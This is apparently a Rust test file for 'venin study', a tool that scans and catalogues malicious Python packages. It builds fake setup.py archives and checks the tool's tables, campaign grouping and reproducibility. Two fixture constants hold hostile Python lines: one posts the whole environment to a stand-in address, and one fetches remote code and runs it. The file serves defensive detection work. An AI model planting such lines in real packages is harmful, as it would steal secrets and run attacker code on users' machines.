//! `venin study` over a small inert data set of known composition.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;

use serde_json::Value;

use crate::{Run, run, venin};

/// Reads the environment and sends it to a documentation address.
const STEALS: &str = "import os, urllib.request\n\
    urllib.request.urlopen('http://198.51.100.7/x', data=str(dict(os.environ)).encode())\n";
/// Fetches code and runs it.
const FETCHES: &str = "import urllib.request\n\
    exec(urllib.request.urlopen('http://bad.invalid/p').read())\n";

fn archive(name: &str, version: &str, text: &str) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(format!("{name}-{version}/setup.py"), zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(
        format!("from setuptools import setup\n{text}setup(name='{name}', version='{version}')\n").as_bytes(),
    )
    .unwrap();
    zip.finish().unwrap().into_inner()
}

/// Two releases of a thief, a dropper, a harmless project, a copy of the dropper, and half an archive.
fn workplace() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let write = |inside: &str, bytes: &[u8]| {
        let path = folder.path().join("tree").join(inside);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    };
    write("thief/1.0/thief-1.0.zip", &archive("thief", "1.0", STEALS));
    write("thief/1.1/thief-1.1.zip", &archive("thief", "1.1", STEALS));
    write("dropper/2.0/dropper-2.0.zip", &archive("dropper", "2.0", FETCHES));
    write("copies/dropper-2.0.zip", &archive("dropper", "2.0", FETCHES));
    write("calm/3.0/calm-3.0.zip", &archive("calm", "3.0", "x = 1\n"));
    let half = archive("torn", "1.0", &"y = 1\n".repeat(200));
    write("torn/1.0/torn-1.0.zip", &half[..half.len() / 2]);
    write("README", b"no archive");
    folder
}

fn study(folder: &Path, words: &[&str]) -> Run {
    let mut command = venin(&["study"]);
    run(command.args(words).current_dir(folder).env("XDG_DATA_HOME", folder.join("data")))
}

fn read(folder: &Path, name: &str) -> Value {
    serde_json::from_slice(&std::fs::read(folder.join(name)).unwrap()).unwrap()
}

/// The cell of a table in a `study.json`, by the text of the first column and the id of a column.
fn cell<'a>(study: &'a Value, table: &str, row: &str, column: &str) -> &'a Value {
    let tables = study["chapters"].as_array().unwrap().iter().flat_map(|c| c["tables"].as_array().unwrap());
    let found = tables.into_iter().find(|t| t["id"] == table);
    let found = found.unwrap_or_else(|| panic!("there is no table {table}"));
    let at = found["columns"].as_array().unwrap().iter().position(|c| c["id"] == column);
    let at = at.unwrap_or_else(|| panic!("{table} has no column {column}: {:#}", found["columns"]));
    let rows = found["rows"].as_array().unwrap();
    let chosen = rows.iter().find(|r| r["cells"][0] == row);
    &chosen.unwrap_or_else(|| panic!("{table} has no row {row}: {rows:?}"))["cells"][at]
}

/// Every file of a study but the cache of scans.
fn files(folder: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut found = BTreeMap::new();
    for part in ["", "tables"] {
        for entry in std::fs::read_dir(folder.join(part)).unwrap() {
            let path = entry.unwrap().path();
            let name = path.strip_prefix(folder).unwrap().display().to_string();
            if path.is_file() && !name.starts_with("scans.sqlite3") {
                found.insert(name, std::fs::read(path).unwrap());
            }
        }
    }
    found
}

#[test]
fn a_known_data_set_gives_the_known_numbers_and_the_same_bytes_again() {
    let folder = workplace();
    let first =
        study(folder.path(), &["tree", "--to", "one", "--source", "dataset", "--class", "dataset=paper"]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    let made = read(folder.path(), "one/study.json");
    let scope = &made["scope"];
    assert_eq!(
        (&scope["files"], &scope["artifacts"], &scope["projects"]),
        (&6.into(), &5.into(), &4.into()),
        "{scope}"
    );
    assert_eq!(cell(&made, "sources", "paper", "artifacts"), 5);
    assert_eq!(cell(&made, "sources", "paper", "releases"), 5);
    assert_eq!(cell(&made, "sizes", "with malicious lines", "artifacts"), 3);
    let text = String::from_utf8(std::fs::read(folder.path().join("one/tables/kinds.csv")).unwrap()).unwrap();
    assert!(text.starts_with("kind,artifacts,share\n"), "{text}");
    let second =
        study(folder.path(), &["tree", "--to", "one", "--source", "dataset", "--class", "dataset=paper"]);
    assert!(second.stderr.contains("5 of 5 artifacts were scanned before"), "{}", second.stderr);
    let third =
        study(folder.path(), &["tree", "--to", "two", "--source", "dataset", "--class", "dataset=paper"]);
    assert_eq!(third.code, 0);
    let (one, two) = (files(&folder.path().join("one")), files(&folder.path().join("two")));
    assert!(one.len() > 5 && one.keys().eq(two.keys()), "{:?}", one.keys());
    for (name, bytes) in &one {
        assert!(two[name] == *bytes, "{name} differs between two runs");
    }
}

#[test]
fn what_was_not_wholly_read_is_told() {
    let folder = workplace();
    let told = study(folder.path(), &["tree/torn"]);
    assert!(told.stdout.contains("not wholly looked at"), "{}", told.stdout);
}

#[test]
fn the_vault_is_studied_where_no_path_is_named() {
    let folder = workplace();
    let nothing = study(folder.path(), &[]);
    assert_eq!(nothing.code, 2);
    assert!(nothing.stderr.contains("there is nothing to study"), "{}", nothing.stderr);
    let data = folder.path().join("data");
    let words = ["vault", "import", "tree", "--source", "osv"];
    assert_eq!(run(venin(&words).current_dir(folder.path()).env("XDG_DATA_HOME", &data)).code, 0);
    let done = study(folder.path(), &["--to", "out"]);
    assert_eq!(done.code, 0, "{}", done.stderr);
    let made = read(folder.path(), "out/study.json");
    assert_eq!(cell(&made, "sources", "open database", "artifacts"), 5);
    assert!(made["scope"]["claims"].as_u64().unwrap() > 0, "the store beside the vault is read");
}

#[test]
fn wrong_words_are_one_clear_error() {
    let folder = workplace();
    let missing = study(folder.path(), &["nowhere"]);
    assert_eq!(missing.code, 2);
    assert!(missing.stderr.contains("there is no `nowhere`"), "{}", missing.stderr);
    let class = study(folder.path(), &["tree", "--class", "x=rumor"]);
    assert_eq!(class.code, 2);
    assert!(class.stderr.contains("the classes are paper, code hosting"), "{}", class.stderr);
    let foreign = study(folder.path(), &["tree", "--to", "tree"]);
    assert_eq!(foreign.code, 2);
    assert!(foreign.stderr.contains("holds other things than a study"), "{}", foreign.stderr);
}

#[test]
fn a_study_of_an_empty_folder_says_so() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("empty")).unwrap();
    let done = study(folder.path(), &["empty", "--no-store"]);
    assert_eq!(done.code, 0, "{}", done.stderr);
    assert!(done.stdout.contains("There is no artifact"), "{}", done.stdout);
}

/// What stands in the guide: its commands, and its blocks of a language.
fn guide() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/study.md");
    std::fs::read_to_string(path).unwrap()
}

fn block(guide: &str, language: &str) -> String {
    let rest = guide.split_once(&format!("```{language}\n")).unwrap().1;
    rest.split_once("```").unwrap().0.to_owned()
}

/// The history of the guide's releases: uploaded, reported, removed, and what two mirrors kept.
const HISTORY: &str = r#"name,version,kind,date,surface,source,class,detail
bad-one,1.0,uploaded,2026-01-01T00:00:00Z,official-index,index,,
bad-one,1.0,reported,2026-01-11T00:00:00Z,,feed-a,malware,
bad-one,1.0,reported,2026-01-13T00:00:00Z,,feed-b,malware,
bad-one,1.0,release-removed,2026-01-12T00:00:00Z,official-index,index,,
bad-one,1.0,file-seen,2026-01-20T00:00:00Z,mirror:one,audit,,"{""verdict"":""live""}"
bad-one,1.0,file-absent,2026-01-20T00:00:00Z,mirror:two,audit,,"{""verdict"":""clean""}"
bad-two,1.0,uploaded,2026-02-01T00:00:00Z,official-index,index,,
bad-two,1.0,reported,2026-02-05T00:00:00Z,,feed-a,malware,
worse,1.0,reported,9000-01-01,,feed-a,malware,
"#;

const DOWNLOADS: &str = "timestamp,project,version,type,installer,system,country,count\n\
    2026-01-02T00:00:00Z,bad-one,1.0,sdist,pip,Linux,DE,90\n\
    2026-01-31T00:00:00Z,bad-one,1.0,bdist_wheel,pip,Windows,FR,10\n\
    2026-02-02T00:00:00Z,bad-two,1.0,sdist,bandersnatch,,,5\n";

#[test]
fn the_commands_of_the_guide_lead_from_nothing_to_a_portrait() {
    let folder = tempfile::tempdir().unwrap();
    let write = |inside: &str, bytes: &[u8]| {
        let path = folder.path().join(inside);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    };
    for (name, text) in [("bad-one", STEALS), ("bad-two", STEALS), ("bad-three", STEALS), ("calm", "x = 1\n")]
    {
        write(&format!("tree/{name}/1.0/{name}-1.0.zip"), &archive(name, "1.0", text));
    }
    write("history.csv", HISTORY.as_bytes());
    write("downloads.csv", DOWNLOADS.as_bytes());
    let guide = guide();
    write("list.jsonl", block(&guide, "json").as_bytes());
    write("tools.toml", block(&guide, "toml").as_bytes());
    let commands: Vec<&str> = guide.lines().filter_map(|line| line.strip_prefix("    venin ")).collect();
    assert!(commands.len() >= 7, "{commands:?}");
    for command in commands {
        let words: Vec<&str> = command.split(' ').collect();
        let program = &mut venin(&words);
        let done = run(program.current_dir(folder.path()).env("XDG_DATA_HOME", folder.path().join("data")));
        // One line of the history lies in the future: the others are taken in, and that is said.
        let expected = if command.contains("history.csv") { 3 } else { 0 };
        assert_eq!(done.code, expected, "{command}: {}{}", done.stdout, done.stderr);
    }
    the_study_is_as_its_history_says(&read(folder.path(), "study/study.json"));
    let next = read(folder.path(), "next/study.json");
    let titles: Vec<&str> =
        next["chapters"].as_array().unwrap().iter().map(|c| c["title"].as_str().unwrap()).collect();
    assert!(titles.contains(&"Compared with study/study.json"), "{titles:?}");
    let tools = read(folder.path(), "tools/study.json");
    crate::schema_files::assert_fits("study", &tools);
    assert_eq!(cell(&tools, "tools", "venin", "tpr"), 1.0);
    assert_eq!(cell(&tools, "tools", "by value", "fpr"), 1.0);
    let page = std::fs::read_to_string(folder.path().join("study/study.html")).unwrap();
    assert!(page.starts_with("<!doctype html>") && !page.contains("<script"), "a page without scripts");
}

/// What the guide's data must give.
fn the_study_is_as_its_history_says(study: &Value) {
    crate::schema_files::assert_fits("study", study);
    assert_eq!(study["scope"]["artifacts"], 4);
    assert_eq!(cell(study, "sources", "paper", "first_day"), "2026-01-01");
    assert_eq!(cell(study, "behaviors", "information stealing", "artifacts"), 3);
    assert_eq!(cell(study, "vectors", "install", "artifacts"), 3);
    // From upload to the first report: 10 days and 4 days.
    assert_eq!(cell(study, "life-spans", "incubation of projects", "median_least"), 7.0);
    assert_eq!(cell(study, "mirrors", "one", "found"), 1);
    assert_eq!(cell(study, "mirrors", "two", "found"), 0);
    let campaigns =
        study["chapters"].as_array().unwrap().iter().flat_map(|c| c["tables"].as_array().unwrap());
    let campaigns = campaigns.into_iter().find(|table| table["id"] == "campaigns").unwrap();
    assert_eq!(campaigns["rows"].as_array().unwrap().len(), 1, "three copies of a thief are one campaign");
    let parties: Vec<&str> =
        study["portrait"].as_array().unwrap().iter().map(|b| b["party"].as_str().unwrap()).collect();
    assert!(
        ["contributor", "platform", "end user"].iter().all(|party| parties.contains(party)),
        "{parties:?}"
    );
}

#[test]
fn an_artifact_is_placed_in_the_campaign_of_its_kind_and_nothing_else_is() {
    let folder = workplace();
    let write = |inside: &str, bytes: &[u8]| std::fs::write(folder.path().join(inside), bytes).unwrap();
    std::fs::create_dir_all(folder.path().join("new")).unwrap();
    std::fs::create_dir_all(folder.path().join("tree/thief/1.2")).unwrap();
    write("tree/thief/1.2/thief-1.2.zip", &archive("thief", "1.2", STEALS));
    assert_eq!(study(folder.path(), &["tree", "--to", "out"]).code, 0);
    write("new/other-9.zip", &archive("other", "9", STEALS));
    write("new/calm-4.zip", &archive("calm", "4", "y = {'a': 1}\n"));
    let placed = study(folder.path(), &["place", "new", "--study", "out", "--format", "json"]);
    assert_eq!(placed.code, 0, "{}", placed.stderr);
    let placed: Value = serde_json::from_str(&placed.stdout).unwrap();
    crate::schema_files::assert_fits("study-place", &placed);
    let artifacts = placed["artifacts"].as_array().unwrap();
    let campaign = |file: &str| &artifacts.iter().find(|a| a["file"] == file).unwrap()["campaign"];
    assert!(campaign("other-9.zip").is_string(), "{placed:#}");
    assert!(campaign("calm-4.zip").is_null(), "{placed:#}");
    let without = study(folder.path(), &["place", "new", "--study", "nowhere"]);
    assert_eq!(without.code, 2);
    assert!(without.stderr.contains("makes a study"), "{}", without.stderr);
}

#[test]
fn what_is_not_a_study_cannot_be_compared_with() {
    let folder = workplace();
    std::fs::write(folder.path().join("other.json"), "{\"schema\":\"venin.report/1\"}").unwrap();
    let wrong = study(folder.path(), &["tree", "--compare", "other.json"]);
    assert_eq!(wrong.code, 2);
    assert!(wrong.stderr.contains("`other.json` is no study"), "{}", wrong.stderr);
    let missing = study(folder.path(), &["tree", "--compare", "nothing.json"]);
    assert!(missing.stderr.contains("cannot read `nothing.json`"), "{}", missing.stderr);
}
